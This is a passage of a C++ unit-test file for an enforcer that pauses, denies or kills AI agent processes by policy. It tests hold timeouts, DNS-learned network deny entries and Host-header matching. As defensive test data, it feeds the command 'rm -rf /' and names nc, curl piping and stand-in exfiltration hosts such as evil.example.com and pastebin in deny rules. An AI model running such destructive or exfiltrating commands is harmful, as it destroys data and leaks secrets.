  EXPECT_TRUE(e.tick(kT0 + 9 * kSec).empty());
  EXPECT_TRUE(act.signals.empty());
  auto out = e.tick(kT0 + 10 * kSec);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].outcome, "denied");
  EXPECT_NE(out[0].detail.find("timed out"), std::string::npos) << out[0].detail;
  EXPECT_EQ(act.signals, (std::vector<std::pair<uint32_t, int>>{{800u, SIGKILL}}));
  EXPECT_EQ(e.holds(), 0u);
  EXPECT_TRUE(e.tick(kT0 + 20 * kSec).empty());
}

TEST(EnforceEnforcer, HoldTimeoutAppliesAllowDefault) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
rules:
  - name: p
    action: pause
    exec: {argv: ["rm -rf"]}
holds:
  timeout: 1m
  default: allow
)"),
             act);
  ASSERT_EQ(e.on_exec(subject(900, 900), "/bin/rm", {"rm", "-rf", "/"}, kT0).size(), 1u);
  act.signals.clear();
  EXPECT_TRUE(e.tick(kT0 + 59 * kSec).empty());
  auto out = e.tick(kT0 + 61 * kSec);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].outcome, "approved");
  EXPECT_NE(out[0].detail.find("timed out"), std::string::npos);
  EXPECT_EQ(act.signals, (std::vector<std::pair<uint32_t, int>>{{900u, SIGCONT}}));
}

TEST(EnforceEnforcer, ProcessExitForgetsItsHolds) {
  FakeActuator act;
  Enforcer e(parse(kPausePolicy), act);
  ASSERT_EQ(e.on_file(subject(1000, 1000), "write", "/secret/1", "", kT0).size(), 1u);
  ASSERT_EQ(e.on_file(subject(1001, 1000), "write", "/secret/2", "", kT0).size(), 1u);
  auto again = e.on_file(subject(1000, 1000), "write", "/secret/3", "", kT0);
  ASSERT_EQ(again.size(), 1u);
  // A process is held once: a second pause (a late user-space decision) joins its hold.
  EXPECT_NE(again[0].detail.find("already held"), std::string::npos) << again[0].detail;
  EXPECT_EQ(e.holds(), 2u);
  act.signals.clear();
  e.on_process_exit(1000);
  EXPECT_EQ(e.holds(), 1u);
  e.on_process_exit(4242);
  EXPECT_EQ(e.holds(), 1u);
  // The exited process is not signalled at the timeout either.
  auto out = e.tick(kT0 + 60 * kSec);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(act.signals, (std::vector<std::pair<uint32_t, int>>{{1001u, SIGKILL}}));
}

// ---------------------------------------------------------------- DNS-learned addresses

TEST(EnforceEnforcer, DnsAnswersForHostRulesBecomeNetworkEntries) {
  FakeActuator act;
  auto p = parse(std::string(kAgents) + R"(rules:
  - name: first
    action: audit
    exec: {paths: [nc]}
  - name: bad-hosts
    agents: [claude]
    action: deny
    network:
      hosts: ["evil.example.com", "*.x.com"]
      ports: [443, "8000-8100"]
)");
  uint64_t want_scope = enforce::scope_mask(p, p.rules[1].scope);
  Enforcer e(std::move(p), act);
  auto claude = subject(10, 10, "claude");

  e.on_dns(claude, "a.b.x.com", {"10.0.0.1", "2001:db8::5"});
  ASSERT_EQ(act.networks.size(), 2u);
  const auto& [k0, r0] = act.networks[0];
  EXPECT_EQ(k0.prefixlen, 128u);
  EXPECT_EQ(key_addr(k0), v4_mapped(10, 0, 0, 1));
  EXPECT_EQ(r0.rule, 1u);
  EXPECT_EQ(r0.action, REIN_ACT_DENY);
  EXPECT_EQ(r0.scope, want_scope);
  ASSERT_EQ(r0.nports, 2);
  EXPECT_EQ(r0.ports[0][0], 443);
  EXPECT_EQ(r0.ports[0][1], 443);
  EXPECT_EQ(r0.ports[1][0], 8000);
  EXPECT_EQ(r0.ports[1][1], 8100);
  const auto& k1 = act.networks[1].first;
  EXPECT_EQ(k1.prefixlen, 128u);
  Addr v6{0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 5};
  EXPECT_EQ(key_addr(k1), v6);

  // The same answer again: nothing new. The exact name and a case variant match too.
  e.on_dns(claude, "a.b.x.com", {"10.0.0.1"});
  EXPECT_EQ(act.networks.size(), 2u);
  e.on_dns(claude, "EVIL.example.com", {"10.0.0.1", "10.0.0.2", "garbage", ""});
  ASSERT_EQ(act.networks.size(), 3u);
  EXPECT_EQ(key_addr(act.networks[2].first), v4_mapped(10, 0, 0, 2));

  // Not covered: the bare suffix, another name, another agent, a discovered namesake.
  e.on_dns(claude, "x.com", {"10.9.9.9"});
  e.on_dns(claude, "example.com", {"10.9.9.9"});
  e.on_dns(subject(20, 20, "other"), "a.x.com", {"10.9.9.9"});
  e.on_dns(subject(30, 30, "claude", "", true), "a.x.com", {"10.9.9.9"});
  EXPECT_EQ(act.networks.size(), 3u);
}

TEST(EnforceEnforcer, DnsAnswersForAllowedHostsPunchHoles) {
  FakeActuator act;
  auto p = parse(R"(apiVersion: rein/v1
allow:
  - name: only-github
    otherwise: deny
    network: {hosts: ["*.github.com"]}
)");
  Enforcer e(std::move(p), act);
  e.on_dns(subject(1, 1), "api.github.com", {"140.82.112.5"});
  ASSERT_EQ(act.networks.size(), 1u);
  EXPECT_EQ(act.networks[0].second.action, REIN_ACT_NONE);
  EXPECT_EQ(act.networks[0].second.rule, 0u);  // no rules: the allow scope is index 0
  EXPECT_EQ(key_addr(act.networks[0].first), v4_mapped(140, 82, 112, 5));
}

TEST(EnforceEnforcer, ReloadKeepsHoldsOfStoppedProcesses) {
  FakeActuator act;
  auto old = std::make_unique<Enforcer>(parse(argv_rule("pause")), act);
  auto ds = old->on_exec(subject(300, 200), "/usr/bin/curl", kPipeArgs, kT0);
  ASSERT_EQ(ds.size(), 1u);
  ASSERT_NE(ds[0].hold_id, 0u);
  Enforcer next(parse(argv_rule("audit")), act);
  next.adopt(std::move(*old));
  old.reset();
  EXPECT_EQ(next.holds(), 1u);
  auto [reply, decided] = next.control("approve " + std::to_string(ds[0].hold_id), kT0 + 1);
  ASSERT_EQ(decided.size(), 1u) << reply;
  EXPECT_EQ(decided[0].outcome, "approved");
  EXPECT_TRUE(has_signal(act, ds[0].pid, SIGCONT));
}

TEST(EnforceEnforcer, HostHeaderMatchesHostRulesAfterTheFact) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
rules:
  - name: no-paste
    action: deny
    network:
      hosts: ["*.pastebin.example", "evil.example"]
)"),
             act);
  auto none = e.on_http_host(subject(300, 200), "api.openai.com", kT0);
  EXPECT_TRUE(none.empty());
  EXPECT_TRUE(act.signals.empty());
  auto out = e.on_http_host(subject(300, 200), "raw.pastebin.example", kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "no-paste");
  EXPECT_EQ(out[0].outcome, "killed");
  EXPECT_NE(out[0].detail.find("Host header"), std::string::npos);
  EXPECT_TRUE(has_signal(act, 300, SIGKILL));
}

TEST(EnforceEnforcer, LateKillOfAnExitedProcessSaysSo) {
  FakeActuator act;
  act.gone.insert(300);
  Enforcer e(parse(argv_rule("deny")), act);
  auto out = e.on_exec(subject(300, 200), "/usr/bin/curl", kPipeArgs, kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].outcome, "alerted");
  EXPECT_NE(out[0].detail.find("already exited"), std::string::npos) << out[0].detail;
}

// ---------------------------------------------------------------- holds that hold

namespace {
rein_hold_event hold_event(uint32_t sender, uint32_t target, uint16_t kind, uint16_t nr) {
  rein_hold_event e{};
  e.h.kind = REIN_REC_HOLD;
  e.h.tgid = e.h.pid = sender;
  e.target = target;
  e.event = kind;
  e.nr = nr;
  e.state = REIN_HELD_SEIZED;
  return e;
}
}  // namespace

TEST(EnforceEnforcer, KernelPauseWithLostRecordGetsAHoldAfterGrace) {
  FakeActuator act;
  Enforcer e(parse(kPausePolicy), act);
  act.kernel = {{77, 0, kT0, REIN_HELD_KERNEL}};
  // Its record may still be in the ring: not yet.
  EXPECT_TRUE(e.tick(kT0 + kSec / 2).empty());
  EXPECT_EQ(e.holds(), 0u);
  auto out = e.tick(kT0 + 2 * kSec);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "hold-secret");
  EXPECT_EQ(out[0].kind, "file");
  EXPECT_EQ(out[0].outcome, "paused");
  EXPECT_NE(out[0].hold_id, 0u);
  EXPECT_NE(out[0].detail.find("record was lost"), std::string::npos) << out[0].detail;
  EXPECT_EQ(act.begun, (std::vector<std::pair<uint32_t, uint32_t>>{{77u, 0u}}));
  ASSERT_EQ(act.saved.size(), 1u);
  EXPECT_EQ(act.saved[0].start_ticks, 4242u);
  // The late record joins the same hold; the next tick adopts nothing more.
  auto late = e.from_kernel("file", 0, REIN_ACT_PAUSE, REIN_OUT_PAUSED, "/secret/x",
                            subject(77, 70), kT0 + 3 * kSec);
  EXPECT_EQ(late.hold_id, out[0].hold_id);
  EXPECT_EQ(e.holds(), 1u);
  EXPECT_TRUE(e.tick(kT0 + 4 * kSec).empty());
  EXPECT_EQ(act.begun.size(), 1u);
  // Timeout: the default (deny) ends it.
  act.kernel.clear();
  auto end = e.tick(kT0 + 20 * kSec);
  ASSERT_EQ(end.size(), 1u);
  EXPECT_EQ(end[0].outcome, "denied");
  EXPECT_TRUE(has_signal(act, 77, SIGKILL));
  EXPECT_TRUE(act.saved.empty());
}

TEST(EnforceEnforcer, KernelPauseOfAnExitedProcessGetsNoHold) {
  FakeActuator act;
  Enforcer e(parse(kPausePolicy), act);
  act.kernel = {{78, 0, kT0, REIN_HELD_KERNEL}};
  act.gone.insert(78);
  EXPECT_TRUE(e.tick(kT0 + 2 * kSec).empty());
  EXPECT_EQ(act.begun, (std::vector<std::pair<uint32_t, uint32_t>>{{78u, 0u}}));
  EXPECT_EQ(e.holds(), 0u);
}

TEST(EnforceEnforcer, SigcontToAHeldProcessIsReportedWithItsSender) {
  FakeActuator act;
  Enforcer e(parse(kPausePolicy), act);
  auto d = e.from_kernel("file", 0, REIN_ACT_PAUSE, REIN_OUT_PAUSED, "/secret/a", subject(500, 400),
                         kT0);
  ASSERT_NE(d.hold_id, 0u);
  EXPECT_NE(d.detail.find("seized"), std::string::npos) << d.detail;
  e.on_hold_event(hold_event(600, 500, REIN_HOLD_EV_CONT, 62), kT0 + kSec);
  e.on_hold_event(hold_event(500, 500, REIN_HOLD_EV_ESCAPE, 1), kT0 + kSec);
  e.on_hold_event(hold_event(600, 500, 99, 62), kT0 + kSec);  // unknown kind: ignored
  auto out = e.tick(kT0 + 2 * kSec);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].hold_id, d.hold_id);
  EXPECT_EQ(out[0].pid, 500u);
  EXPECT_EQ(out[0].rule, "hold-secret");
  EXPECT_NE(out[0].detail.find("pid 600"), std::string::npos) << out[0].detail;
  EXPECT_NE(out[0].detail.find("stays held"), std::string::npos) << out[0].detail;
  EXPECT_NE(out[1].detail.find("stopped again"), std::string::npos) << out[1].detail;
  EXPECT_EQ(e.holds(), 1u);  // still held: nothing was released
  EXPECT_TRUE(act.signals.empty());
}

TEST(EnforceEnforcer, ShutdownEndsEveryHoldByTheDefault) {
  for (bool allow : {false, true}) {
    FakeActuator act;
    std::string yaml = kPausePolicy;
    if (allow) yaml.replace(yaml.find("default: deny"), 13, "default: allow");
    Enforcer e(parse(yaml), act);
    e.on_file(subject(500, 400), "write", "/secret/a", "", kT0);
    e.on_file(subject(501, 400), "write", "/secret/b", "", kT0);
    ASSERT_EQ(e.holds(), 2u);
    EXPECT_EQ(act.saved.size(), 2u);
    EXPECT_EQ(act.saved_default_allow, allow);
    act.signals.clear();
    auto [reply, ds] = e.control("shutdown", kT0 + kSec);
    EXPECT_NE(reply.find("\"ended\":2"), std::string::npos) << reply;
    ASSERT_EQ(ds.size(), 2u);
    for (const auto& d : ds) EXPECT_EQ(d.outcome, allow ? "approved" : "denied");
    std::sort(act.signals.begin(), act.signals.end());
    int sig = allow ? SIGCONT : SIGKILL;
    EXPECT_EQ(act.signals, (std::vector<std::pair<uint32_t, int>>{{500u, sig}, {501u, sig}}));
    EXPECT_EQ(e.holds(), 0u);
    EXPECT_TRUE(act.saved.empty());
  }
}

TEST(EnforceEnforcer, HeldProcessThatExitsIsForgotten) {
  FakeActuator act;
  Enforcer e(parse(kPausePolicy), act);
  e.on_file(subject(500, 400), "write", "/secret/a", "", kT0);
  ASSERT_EQ(act.saved.size(), 1u);
  e.on_process_exit(500);
  EXPECT_EQ(e.holds(), 0u);
  EXPECT_TRUE(act.saved.empty());
}
